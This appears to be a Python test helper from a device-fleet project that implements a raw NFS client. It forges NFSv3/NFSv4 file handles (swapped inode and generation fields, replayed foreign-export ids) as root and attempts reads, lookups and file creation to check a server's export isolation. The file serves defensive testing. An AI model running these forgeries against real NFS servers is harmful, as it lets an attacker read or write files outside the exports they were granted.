# Copyright: (c) 2026, pifleet maintainers
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
"""A raw NFS client for attack tests: ONC RPC over TCP with AUTH_SYS uid 0, handles as plain bytes.

A kernel or libnfs client hands out only handles the server gave it; an attacker on a Pi is root and
sends whatever bytes it likes. This client does the same: MOUNT v3 (through the portmapper), NFSv3
GETATTR/LOOKUP/READ/CREATE and NFSv4 COMPOUNDs built around PUTFH, each taking any handle bytes, so a
test can forge them (other inode numbers, another export id) and check what the server answers.
Standard library only (RFC 5531 RPC, RFC 1813 NFSv3 and MOUNT, RFC 7530 NFSv4.0).
"""

from __future__ import annotations

import json
import os
import random
import socket
import struct
import sys

PMAP, MOUNT, NFS = 100000, 100005, 100003
AUTH_NONE, AUTH_SYS = 0, 1
NFS3_OK = 0
NFS4_OK = 0
# NFSv4 operation numbers (RFC 7530 16.x)
OP_CREATE, OP_GETATTR, OP_GETFH, OP_LOOKUP, OP_PUTFH, OP_PUTROOTFH, OP_READ = 6, 9, 10, 15, 22, 24, 25
NF4DIR = 2
FATTR4_TYPE, FATTR4_FILEID = 1, 20


class RpcError(Exception):
    """The server refused the call at the RPC level (not an NFS status)."""


class Packer:
    def __init__(self):
        self.parts = []

    def uint(self, value):
        self.parts.append(struct.pack('>I', value & 0xFFFFFFFF))
        return self

    def hyper(self, value):
        self.parts.append(struct.pack('>Q', value))
        return self

    def opaque(self, data):
        data = bytes(data)
        self.uint(len(data))
        self.parts.append(data + b'\0' * (-len(data) % 4))
        return self

    def string(self, text):
        return self.opaque(text.encode() if isinstance(text, str) else text)

    def raw(self, data):
        self.parts.append(bytes(data))
        return self

    def bytes(self):
        return b''.join(self.parts)


class Unpacker:
    def __init__(self, data):
        self.data, self.pos = data, 0

    def uint(self):
        value = struct.unpack_from('>I', self.data, self.pos)[0]
        self.pos += 4
        return value

    def hyper(self):
        value = struct.unpack_from('>Q', self.data, self.pos)[0]
        self.pos += 8
        return value

    def opaque(self, fixed=None):
        size = self.uint() if fixed is None else fixed
        data = self.data[self.pos:self.pos + size]
        self.pos += size + (-size % 4)
        return data

    def skip(self, size):
        self.pos += size


def auth_sys(uid=0, gid=0, machine='pi'):
    return Packer().uint(0).string(machine).uint(uid).uint(gid).uint(1).uint(gid).bytes()


class Rpc:
    """One TCP connection to one RPC program, from a privileged source port (like a kernel client)."""

    def __init__(self, host, port, prog, vers, *, uid=0, timeout=10):
        self.prog, self.vers, self.cred = prog, vers, auth_sys(uid, uid)
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.settimeout(timeout)
        for source in random.sample(range(600, 1024), 40):
            try:
                self.sock.bind(('', source))
                break
            except OSError:
                continue
        self.sock.connect((host, port))

    def call(self, proc, args=b''):
        xid = random.getrandbits(32)
        body = (Packer().uint(xid).uint(0).uint(2).uint(self.prog).uint(self.vers).uint(proc)
                .uint(AUTH_SYS).opaque(self.cred).uint(AUTH_NONE).opaque(b'').bytes() + args)
        self.sock.sendall(struct.pack('>I', 0x80000000 | len(body)) + body)
        reply = self._record()
        u = Unpacker(reply)
        if u.uint() != xid or u.uint() != 1:
            raise RpcError('unexpected RPC reply')
        if u.uint() != 0:
            raise RpcError('RPC call denied')
        u.uint()
        u.opaque()  # verifier
        accept = u.uint()
        if accept != 0:
            raise RpcError('RPC call not accepted (accept_stat %d)' % accept)
        return u

    def _record(self):
        data, last = b'', False
        while not last:
            head = struct.unpack('>I', self._exact(4))[0]
            last = bool(head & 0x80000000)
            data += self._exact(head & 0x7FFFFFFF)
        return data

    def _exact(self, size):
        buf = b''
        while len(buf) < size:
            chunk = self.sock.recv(size - len(buf))
            if not chunk:
                raise RpcError('connection closed by the server')
            buf += chunk
        return buf

    def close(self):
        self.sock.close()


def getport(host, prog, vers):
    rpc = Rpc(host, 111, PMAP, 2)
    try:
        return rpc.call(3, Packer().uint(prog).uint(vers).uint(socket.IPPROTO_TCP).uint(0).bytes()).uint()
    finally:
        rpc.close()


def mount3(host, path):
    """(status, root handle) of MOUNT v3 MNT for ``path``; status 0 is MNT3_OK, 13 MNT3ERR_ACCES."""
    rpc = Rpc(host, getport(host, MOUNT, 3), MOUNT, 3)
    try:
        u = rpc.call(1, Packer().string(path).bytes())
        status = u.uint()
        return status, (u.opaque() if status == 0 else None)
    finally:
        rpc.close()


def _fattr3(u):
    ftype, mode, _nlink, uid, gid = (u.uint() for _index in range(5))
    size, _used = u.hyper(), u.hyper()
    u.skip(8)  # rdev
    fsid, fileid = u.hyper(), u.hyper()
    u.skip(24)  # atime, mtime, ctime
    return {'type': ftype, 'mode': mode, 'uid': uid, 'gid': gid, 'size': size, 'fsid': fsid, 'fileid': fileid}


def _post_op(u):
    return _fattr3(u) if u.uint() else None


class Nfs3:
    """NFSv3 calls that take handles as bytes; each returns (status, result)."""

    def __init__(self, host, port=2049):
        self.rpc = Rpc(host, port, NFS, 3)

    def getattr(self, fh):
        u = self.rpc.call(1, Packer().opaque(fh).bytes())
        status = u.uint()
        return status, (_fattr3(u) if status == NFS3_OK else None)

    def lookup(self, fh, name):
        u = self.rpc.call(3, Packer().opaque(fh).string(name).bytes())
        status = u.uint()
        return status, (u.opaque() if status == NFS3_OK else None)

    def read(self, fh, count=65536, offset=0):
        u = self.rpc.call(6, Packer().opaque(fh).hyper(offset).uint(count).bytes())
        status = u.uint()
        if status != NFS3_OK:
            return status, None
        _post_op(u)
        u.uint()  # count
        u.uint()  # eof
        return status, u.opaque()

    def create(self, fh, name, mode=0o600):
        # createhow3 UNCHECKED with sattr3: set mode, leave uid/gid/size/times alone.
        args = (Packer().opaque(fh).string(name).uint(0).uint(1).uint(mode)
                .uint(0).uint(0).uint(0).uint(0).uint(0).bytes())
        u = self.rpc.call(8, args)
        status = u.uint()
        return status, None

    def walk(self, fh, path):
        """LOOKUP each component of ``path`` from ``fh``: (status, handle)."""
        for name in [part for part in path.split('/') if part]:
            status, fh = self.lookup(fh, name)
            if status != NFS3_OK:
                return status, None
        return NFS3_OK, fh

    def close(self):
        self.rpc.close()


class Nfs4:
    """NFSv4.0 COMPOUNDs; ``compound()`` returns (status, [(op, status, unpacker)]) up to the first error."""

    def __init__(self, host, port=2049):
        self.rpc = Rpc(host, port, NFS, 4)

    def compound(self, ops):
        args = Packer().string('pifleet').uint(0).uint(len(ops))
        for op, payload in ops:
            args.uint(op).raw(payload)
        u = self.rpc.call(1, args.bytes())
        status = u.uint()
        u.opaque()  # tag
        results = []
        for _index in range(u.uint()):
            op, op_status = u.uint(), u.uint()
            results.append((op, op_status, u))
            if op_status != NFS4_OK:
                break
            self._skip_result(op, u)
        return status, results

    @staticmethod
    def _skip_result(op, u):
        if op == OP_GETFH:
            u.fh = u.opaque()
        elif op == OP_READ:
            u.eof = u.uint()
            u.data = u.opaque()
        elif op == OP_GETATTR:
            u.bitmap = [u.uint() for _index in range(u.uint())]
            u.attrs = u.opaque()
        elif op == OP_CREATE:
            u.uint()
            u.hyper()
            u.hyper()  # change_info4
            [u.uint() for _index in range(u.uint())]  # attrset bitmap

    @staticmethod
    def putfh(fh):
        return OP_PUTFH, Packer().opaque(fh).bytes()

    @staticmethod
    def lookup(name):
        return OP_LOOKUP, Packer().string(name).bytes()

    def handle_of(self, path):
        """(status, handle) of ``path`` from the pseudo root: PUTROOTFH, LOOKUP..., GETFH."""
        ops = [(OP_PUTROOTFH, b'')] + [self.lookup(n) for n in path.split('/') if n] + [(OP_GETFH, b'')]
        status, results = self.compound(ops)
        return status, (results[-1][2].fh if status == NFS4_OK else None)

    def getattr(self, fh):
        """(status, fileid) of a handle."""
        bitmap = Packer().uint(1).uint(1 << FATTR4_FILEID).bytes()
        status, results = self.compound([self.putfh(fh), (OP_GETATTR, bitmap)])
        if status != NFS4_OK:
            return status, None
        return status, struct.unpack('>Q', results[-1][2].attrs[:8])[0]

    def read(self, fh, path='', count=65536):
        """READ with the anonymous stateid from ``fh`` (after LOOKUPs of ``path``): (status, data)."""
        ops = [self.putfh(fh)] + [self.lookup(n) for n in path.split('/') if n]
        ops.append((OP_READ, Packer().uint(0).raw(b'\0' * 12).hyper(0).uint(count).bytes()))
        status, results = self.compound(ops)
        return status, (results[-1][2].data if status == NFS4_OK else None)

    def lookup_path(self, fh, path):
        status, results = self.compound([self.putfh(fh)] + [self.lookup(n) for n in path.split('/') if n]
                                        + [(OP_GETFH, b'')])
        return status, (results[-1][2].fh if status == NFS4_OK else None)

    def mkdir(self, fh, name):
        """CREATE a directory in ``fh`` (no open state needed, unlike a regular file)."""
        payload = Packer().uint(NF4DIR).string(name).uint(0).opaque(b'').bytes()
        status, _results = self.compound([self.putfh(fh), (OP_CREATE, payload)])
        return status

    def close(self):
        self.rpc.close()


def find_le32(handle, value):
    """Offsets where ``value`` sits as a little-endian 32-bit number in ``handle`` (an inode in a handle)."""
    needle = struct.pack('<I', value)
    return [i for i in range(len(handle) - 3) if handle[i:i + 4] == needle]


def replace_at(handle, offset, data):
    return handle[:offset] + bytes(data) + handle[offset + len(data):]


def random_name(prefix='pwned'):
    return '%s-%s' % (prefix, os.urandom(4).hex())


# --------------------------------------------------------------------------- the attack a test runs from a Pi


def _targets(spec):
    """(inode, generation) pairs to forge: a bare inode number is tried with generation 0 (ext4 then skips the
    check) and, when given as [ino, gen], with the real generation too (an attacker who guessed it: XFS checks)."""
    pairs = []
    for target in spec['targets']:
        ino, gen = (target, None) if isinstance(target, int) else target
        pairs += [(ino, 0)] + ([(ino, gen)] if gen else [])
    return pairs


def _forge(fh, offsets, ino, gen):
    """``fh`` with another inode and generation at each place the known inode sits, in the layouts the
    kernel uses: 32-bit inode + generation (ext4), 64-bit inode + generation (XFS with its 64FLAG),
    generation + 64-bit inode (tmpfs)."""
    for off in offsets:
        yield replace_at(fh, off, struct.pack('<II', ino, gen))
        if off + 12 <= len(fh):
            yield replace_at(fh, off, struct.pack('<QI', ino, gen))
        if off >= 4 and off + 8 <= len(fh):
            yield replace_at(fh, off - 4, struct.pack('<IQ', gen, ino))


def _try(what, func, *args):
    try:
        status, value = func(*args)
    except (RpcError, OSError) as exc:
        return {'op': what, 'status': 'rpc:%s' % exc, 'value': None}
    return {'op': what, 'status': status, 'value': value}


def _attr(nfs, fh):
    res = _try('getattr', nfs.getattr, fh)
    return res['value'] if res['status'] == NFS3_OK else None


def forge_v3(spec):
    """Forged NFSv3 handles against ``spec['export']`` on ``spec['server']``, from this host: observations.

    ``known`` is a path inside the export whose inode number locates the inode field of a handle;
    ``targets`` are inode numbers to forge (generation zeroed); ``names`` are looked up and read
    from every forged directory; ``foreign`` are handles of other exports (hex) to replay as they
    are, with this export's id, and this export's id with their file system. Every object that
    answers is reported with its fsid and fileid, every READ with its data (hex), every CREATE.
    """
    server, names = spec['server'], spec['names']
    nfs, replayed = None, []
    if spec.get('saved'):  # handles this Pi learned earlier (learn3), replayed once its export is gone
        saved = spec['saved']
        root, fh, ino = bytes.fromhex(saved['root']), bytes.fromhex(saved['known']), saved['ino']
        replayed = [('saved root', root), ('saved known', fh)]
        seen = [{'op': 'mount', 'status': 'saved handles'}]
    else:
        status, root = mount3(server, spec['export'])
        if status != 0:
            return [{'op': 'mount', 'status': status}]
        nfs = Nfs3(server)
        seen = [{'op': 'mount', 'status': 0, 'fsid': _attr(nfs, root)['fsid']}]
        status, fh = nfs.walk(root, spec['known'])
        ino = _attr(nfs, fh)['fileid']
    nfs = nfs or Nfs3(server)
    offsets = find_le32(fh, ino)
    forged = replayed + [('ino %d gen %d' % (inode, gen), forged_fh) for inode, gen in _targets(spec)
                         for forged_fh in _forge(fh, offsets, inode, gen)]
    for text in spec.get('foreign', ()):
        other = bytes.fromhex(text)
        forged.append(('foreign handle', other))
        forged.append(('foreign handle, our export id', other[:2] + root[2:4] + other[4:]))
        forged.append(('our export id, foreign file system', root[:5] + other[5:]))
    for label, handle in forged:
        attr = _attr(nfs, handle)
        seen.append({'op': 'getattr', 'handle': label, 'ok': attr is not None,
                     'fsid': attr and attr['fsid'], 'fileid': attr and attr['fileid']})
        read = _try('read', nfs.read, handle)
        seen.append({'op': 'read', 'handle': label, 'ok': read['status'] == NFS3_OK,
                     'data': read['value'].hex() if read['status'] == NFS3_OK else None, 'fsid': attr and attr['fsid']})
        for name in names:
            found = _try('lookup', nfs.walk, handle, name)
            if found['status'] != NFS3_OK:
                seen.append({'op': 'lookup', 'handle': label, 'name': name, 'ok': False})
                continue
            inner = _attr(nfs, found['value'])
            data = _try('read', nfs.read, found['value'])
            seen.append({'op': 'lookup', 'handle': label, 'name': name, 'ok': True, 'fsid': inner and inner['fsid'],
                         'data': data['value'].hex() if data['status'] == NFS3_OK else None})
        name = random_name()
        created = _try('create', nfs.create, handle, name)
        seen.append({'op': 'create', 'handle': label, 'name': name, 'ok': created['status'] == NFS3_OK,
                     'fsid': attr and attr['fsid']})
    nfs.close()
    return seen


def forge_v4(spec):
    """The same forgeries over NFSv4 (PUTFH), with CREATE of a directory as the write."""
    known, names = spec['known'], spec['names']
    nfs = Nfs4(spec['server'])
    status, root = nfs.handle_of(spec['export'])
    if status != NFS4_OK:
        return [{'op': 'putrootfh', 'status': status}]
    seen = []
    status, fh = nfs.lookup_path(root, known)
    ino = nfs.getattr(fh)[1]
    offsets = find_le32(fh, ino)
    forged = [('ino %d gen %d' % (inode, gen), forged_fh) for inode, gen in _targets(spec)
              for forged_fh in _forge(fh, offsets, inode, gen)]
    for text in spec.get('foreign', ()):
        forged.append(('foreign handle', bytes.fromhex(text)))
    for label, handle in forged:
        status, fileid = nfs.getattr(handle)
        seen.append({'op': 'getattr4', 'handle': label, 'ok': status == NFS4_OK, 'fileid': fileid})
        status, data = nfs.read(handle)
        seen.append({'op': 'read4', 'handle': label, 'ok': status == NFS4_OK, 'data': data.hex() if data else None})
        for name in names:
            status, data = nfs.read(handle, name)
            seen.append({'op': 'lookup-read4', 'handle': label, 'name': name, 'ok': status == NFS4_OK,
                         'data': data.hex() if data else None})
        name = random_name()
        status = nfs.mkdir(handle, name)
        seen.append({'op': 'create4', 'handle': label, 'name': name, 'ok': status == NFS4_OK})
    nfs.close()
    return seen


def main(argv=None):
    """``rawnfs.py forge3|forge4|handle3|learn3 <json>``: run from a Pi's namespace; prints JSON."""
    args = sys.argv[1:] if argv is None else argv
    spec = json.loads(args[1])
    if args[0] == 'handle3':
        status, fh = mount3(spec['server'], spec['export'])
        print(json.dumps({'status': status, 'handle': fh.hex() if fh else None}))
        return
    if args[0] == 'learn3':  # what a Pi holds while its export is served: its root's and a file's handles
        status, root = mount3(spec['server'], spec['export'])
        nfs = Nfs3(spec['server'])
        try:
            status, fh = nfs.walk(root, spec['known']) if status == 0 else (status, None)
            ino = _attr(nfs, fh)['fileid'] if fh else None
        finally:
            nfs.close()
        print(json.dumps({'status': status, 'root': root.hex() if root else None, 'known': fh.hex() if fh else None,
                          'ino': ino}))
        return
    print(json.dumps((forge_v3 if args[0] == 'forge3' else forge_v4)(spec)))


if __name__ == '__main__':
    main()
